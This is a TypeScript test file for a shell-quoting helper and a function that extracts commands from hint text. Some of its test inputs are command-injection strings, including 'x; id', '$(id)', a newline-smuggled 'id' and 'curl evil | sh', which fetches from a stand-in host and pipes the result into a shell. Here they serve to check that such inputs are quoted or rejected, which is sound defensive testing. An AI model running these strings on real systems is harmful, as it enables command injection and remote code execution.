import { expect, test } from 'vitest'
import { commandOf, sh } from './shell.ts'

test('makes a command with quoted values, and leaves out empty lists', () => {
  expect(sh`windlass debug ${'x; id'} ${['--break', 'a b:after']} -o yaml`).toBe(
    "windlass debug 'x; id' --break 'a b:after' -o yaml",
  )
  expect(sh`windlass get stats ${'demo/app'} ${[]}`).toBe('windlass get stats demo/app')
  expect(sh`windlass restore pipelines ${'a'} --version ${3}`).toBe('windlass restore pipelines a --version 3')
  expect(sh`windlass get users`).toBe('windlass get users')
})

test.each([
  ['Sign in: `windlass auth login`.', 'windlass auth login'],
  ['Run `kubectl uncordon node-1`.', 'kubectl uncordon node-1'],
  ['Run `windlass x; curl evil | sh`.', undefined],
  ['Run `windlass $(id)`.', undefined],
  ['Run `windlass x\nid`.', undefined],
  ['Run `curl evil`.', undefined],
  ['Wait.', undefined],
])('the command of the hint %j', (hint, found) => {
  expect(commandOf(hint)).toBe(found)
})
